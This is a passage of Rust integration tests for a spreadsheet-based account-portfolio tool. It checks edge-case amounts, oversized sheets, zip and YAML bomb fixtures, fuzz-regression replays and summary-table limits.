        "--mapping",
        fixture("rules/yaml-bombs/deep.mapping.yaml")
            .to_str()
            .unwrap(),
    ]);
    assert_eq!(mapping.code, 2, "{}", mapping.stderr);
    assert_says(&mapping, "deep.mapping.yaml: recursion limit exceeded");
    assert_says(&mapping, "more than 128 levels deep");
}

#[test]
fn zero_negative_and_one_client_portfolios_say_what_is_not_known() {
    for (file, total) in [
        ("valid/zero-profit.xlsx", "0"),
        ("valid/negative-profit.xlsx", "-30"),
    ] {
        let r = run_file(file, &[]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let warning = format!(
            "total gross profit of the portfolio is {total}: shares, ABC classes, Pareto set and HHI are not known"
        );
        assert_says(&r, &warning);
        let s = scores(&r);
        assert_eq!(s["portfolio"]["warnings"][0], warning.as_str());
        assert!(s["portfolio"]["hhi"].is_null());
        for a in s["accounts"].as_array().unwrap() {
            assert!(a["shares"]["share"].is_null(), "{a}");
            assert_eq!(a["key"], false, "no share, no key by share");
        }
        assert!(r.file("portfolio.md").contains(&warning));
    }
    // NaN and infinity are not amounts: the cells are listed, the rows kept.
    let r = run_file("valid/nan-money.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rejects = r.rejects();
    assert_eq!(rejects.len(), 3, "{rejects:?}");
    for (cell, v) in [
        ("Accounts!D2", "NaN"),
        ("Accounts!C3", "inf"),
        ("Accounts!C4", "-Infinity"),
    ] {
        assert!(
            rejects
                .iter()
                .any(|l| l.contains(cell) && l.contains(&format!("`{v}` is not an amount"))),
            "{cell}: {rejects:?}"
        );
    }
    let s = scores(&r);
    assert!(
        s["portfolio"]["total_gross_profit"]
            .as_f64()
            .unwrap()
            .is_finite()
    );
    // One client with all the profit: a mono-client, shares well defined.
    let r = run_file("valid/one-client.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let s = scores(&r);
    let a1 = account(&s, "A1");
    assert_eq!(a1["shares"]["share"], 1.0);
    assert_eq!(a1["dependency"], "mono");
    assert_eq!(account(&s, "A2")["shares"]["share"], 0.0);
    assert_eq!(s["portfolio"]["hhi"], 1.0);
    assert!(
        r.file("portfolio.md")
            .contains("**Alpha** (A1): mono-client, 100.0\u{a0}%")
    );
}

/// A workbook written at test time: Accounts with `rows` accounts plus `extra_cols` extra columns,
/// one name of `long` characters, and `empty_rows` rows of empty strings below.
fn generated_workbook(path: &Path, rows: usize, extra_cols: u16, long: usize, empty_rows: u32) {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet_with_constant_memory().unwrap();
    ws.set_name("Accounts").unwrap();
    ws.write_string(0, 0, "Account ID").unwrap();
    ws.write_string(0, 1, "Account name").unwrap();
    ws.write_string(0, 2, "Gross profit").unwrap();
    for c in 0..extra_cols {
        ws.write_string(0, 3 + c, format!("Extra {c}")).unwrap();
    }
    for r in 0..rows {
        let row = r as u32 + 1;
        ws.write_string(row, 0, format!("A{r}")).unwrap();
        let name = if r == 0 {
            "x".repeat(long)
        } else {
            format!("Client {r}")
        };
        ws.write_string(row, 1, &name).unwrap();
        ws.write_number(row, 2, 100.0 + r as f64).unwrap();
        for c in 0..extra_cols {
            ws.write_number(row, 3 + c, c as f64).unwrap();
        }
    }
    for r in 0..empty_rows {
        ws.write_string(rows as u32 + 1 + r, 0, "").unwrap();
    }
    wb.save(path).unwrap();
}

#[test]
fn wide_long_and_empty_sheets_import_within_bounds() {
    let dir = tempfile::tempdir().unwrap();
    // 10 000 columns, a 32 767-character name (Excel's limit per cell) and 1 000 000 rows of
    // empty strings below the data.
    let book = dir.path().join("wide.xlsx");
    generated_workbook(&book, 20, 10_000, 32_767, 1_000_000);
    let r = run(&["run", book.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_says(&r, "20 accounts");
    let import: serde_json::Value = serde_json::from_str(&r.file("import.json")).unwrap();
    let text = import.to_string();
    assert!(text.contains("extra_9999"), "every extra column is kept");
    let s = scores(&r);
    assert_eq!(
        account(&s, "A0")["name"].as_str().unwrap().chars().count(),
        32_767
    );
    // The long name made a file name of at most 60 characters.
    let plans: Vec<String> = tree(&r.out)
        .into_iter()
        .filter(|f| f.starts_with("plans/"))
        .collect();
    assert!(plans.iter().all(|p| p.len() < 80), "{plans:?}");
}

#[test]
fn zip_bombs_and_absurd_dimensions_are_handled_within_a_memory_bound() {
    // Refused from the zip directory, before anything is unpacked.
    let r = run_file("invalid/zip-bomb.xlsx", &[]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("the part xl/worksheets/sheet1.xml would unpack from 0.3 MiB to 300.0 MiB")
            && r.stderr.contains("zip bomb"),
        "{}",
        r.stderr
    );
    // A sheet declaring the whole grid, with one cell at XFD1048576: the far row is listed.
    let r = run_file("invalid/absurd-dimension.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rejects = r.rejects();
    assert_eq!(rejects.len(), 1, "{rejects:?}");
    assert!(
        rejects[0].contains("Accounts!A1048576") && rejects[0].contains("no account id"),
        "{rejects:?}"
    );
}

/// Every input a fuzzer found (kept in `fuzz/regressions/<target>/`) and the seed corpus go
/// through the real binary: a result or an error, never a panic.
#[test]
fn fuzz_findings_and_seeds_never_crash_the_binary() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz");
    let dir = tempfile::tempdir().unwrap();
    let files = |target: &str| -> Vec<PathBuf> {
        let mut v: Vec<PathBuf> = ["regressions", "corpus"]
            .iter()
            .filter_map(|d| fs::read_dir(root.join(d).join(target)).ok())
            .flat_map(|rd| rd.map(|e| e.unwrap().path()))
            .filter(|p| p.is_file())
            .collect();
        v.sort();
        v
    };
    let check = |what: &Path, o: std::process::Output| {
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            matches!(o.status.code(), Some(0..=2)),
            "{}: exit {:?}\n{err}",
            what.display(),
            o.status.code()
        );
        assert!(
            !err.contains("internal error") && !err.contains("panicked"),
            "{}: {err}",
            what.display()
        );
    };
    let regressions = files("import_workbook");
    assert!(
        regressions
            .iter()
            .any(|p| p.to_string_lossy().contains("xlsb-cell-index"))
    );
    for (i, f) in regressions.iter().enumerate() {
        // The fuzz target's first byte picks the extension; the rest is the file.
        let bytes = fs::read(f).unwrap();
        let (ext, body) = match bytes.split_first() {
            Some((b, rest)) => (["xlsx", "xls", "xlsb", "ods"][(*b % 4) as usize], rest),
            None => ("xlsx", &bytes[..]),
        };
        let book = dir.path().join(format!("w{i}.{ext}"));
        fs::write(&book, body).unwrap();
        let o = kam()
            .args(["run", "-q", "--out"])
            .arg(dir.path().join(format!("out{i}")))
            .arg(&book)
            .output()
            .unwrap();
        check(f, o);
    }
    // Replays a regression and checks that it is refused with exit 2 and this message.
    let refused = |name: &str, message: &str| {
        let (book, _keep) = fuzz_replay(&regressions[..], name);
        let o = kam()
            .args(["run", "-q", "--out"])
            .arg(dir.path().join(format!("out-{name}")))
            .arg(&book)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{name}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains(message), "{name}: {err}");
    };
    // calamine's .xlsb reader indexed out of bounds: contained, the workbook is reported damaged.
    refused(
        "xlsb-cell-index",
        "the file is damaged in a way the Excel reader cannot handle",
    );
    // A 31 KB .xls whose cells span 65 536 × 2 048: refused before calamine builds the grid.
    refused(
        "xls-dense-range-oom",
        "sheet Managers is damaged or built to exhaust memory: its 55 cells span 65536 rows × 2048 columns",
    );
    // A 31 KB .xls whose Accounts sheet uses 65 524 columns (BIFF8 has 256, Excel 16 384):
    // it took 28 s in the rule binding, which looked each extra column up in a list; it is now
    // refused like an .xlsx with columns past Excel's last.
    refused(
        "xls-65524-columns",
        "sheet 'Accounts' uses column 65524 — more than Excel's 16384 columns; the file is damaged",
    );
    for (i, f) in files("rule_pack").iter().enumerate() {
        let d = dir.path().join(format!("pack{i}"));
        fs::create_dir(&d).unwrap();
        fs::copy(f, d.join("pack.yaml")).unwrap();
        check(
            f,
            kam()
                .args(["validate", "--rules"])
                .arg(&d)
                .output()
                .unwrap(),
        );
    }
    for (i, f) in files("mapping").iter().enumerate() {
        let o = kam()
            .args(["run", "-q", "--mapping"])
            .arg(f)
            .arg("--out")
            .arg(dir.path().join(format!("m{i}")))
            .arg(fixture("valid/kam-sample.xlsx"))
            .output()
            .unwrap();
        check(f, o);
    }
    for (i, f) in files("lua_eval").iter().enumerate() {
        let d = dir.path().join(format!("lua{i}"));
        fs::create_dir(&d).unwrap();
        fs::copy(f, d.join("fuzz.lua")).unwrap();
        fs::write(
            d.join("pack.yaml"),
            "pack: fuzz\nlua: [fuzz.lua]\nlimits: { instructions: 100000, memory_mb: 16, time_ms: 50 }\n\
             portfolio: { basis: basis, a_cutoff: 0.8, b_cutoff: 0.95 }\n\
             params:\n  basis: { default: gross_profit }\n\
             measures:\n  m: { lua: measure }\ncriteria:\n  - { id: c, lua: criterion }\n\
             bands:\n  - { name: all }\n",
        )
        .unwrap();
        let o = kam()
            .args(["run", "-q", "--rules"])
            .arg(&d)
            .arg("--out")
            .arg(dir.path().join(format!("l{i}")))
            .output()
            .unwrap();
        // The pack loads; what the script does is recorded per account, the run finishes.
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}: {}",
            f.display(),
            String::from_utf8_lossy(&o.stderr)
        );
        check(f, o);
    }
}

/// A regression input written out as the workbook the fuzz target saw.
fn fuzz_replay(files: &[PathBuf], name: &str) -> (PathBuf, TempDir) {
    let f = files
        .iter()
        .find(|p| p.to_string_lossy().contains(name))
        .unwrap();
    let bytes = fs::read(f).unwrap();
    let (b, rest) = bytes.split_first().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(format!(
        "x.{}",
        ["xlsx", "xls", "xlsb", "ods"][(*b % 4) as usize]
    ));
    fs::write(&path, rest).unwrap();
    (path, dir)
}

#[test]
fn summary_rows_caps_the_account_tables_and_counts_the_rest() {
    // The sample has 7 key accounts; with summary_rows=2 the summary lists the largest two.
    let r = run(&["run", "--set", "summary_rows=2"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let md = r.file("portfolio.md");
    let table = &md[md.find("## Key accounts and plans").unwrap()
        ..md.find("## Key account managers").unwrap()];
    assert_eq!(
        table
            .lines()
            .filter(|l| l.starts_with("| ") && !l.starts_with("| Rank"))
            .count(),
        2,
        "{table}"
    );
    assert!(table.contains("| 2 | [Absheron Pharma LLC]"), "{table}");
    assert!(
        table.contains(
            "+ 5 more, not listed here: every account is in accounts.csv and scores.csv."
        ),
        "{table}"
    );
    let html = r.file("portfolio.html");
    assert!(
        html.contains("<p class=\"muted\">+ 5 more, not listed here"),
        "{html}"
    );
    // The plans of the accounts left out of the table are still written and in the index.
    assert!(r.out.join("plans/a29-caspian-electric-grid.md").exists());
    assert!(r.file("index.md").contains("Caspian Electric Grid"));
    // The default lists all seven and says nothing more.
    let all = run(&["run"]).file("portfolio.md");
    assert!(!all.contains("more, not listed here"), "{all}");
    assert!(all.contains("| 29 | [Caspian Electric Grid]"), "{all}");
}
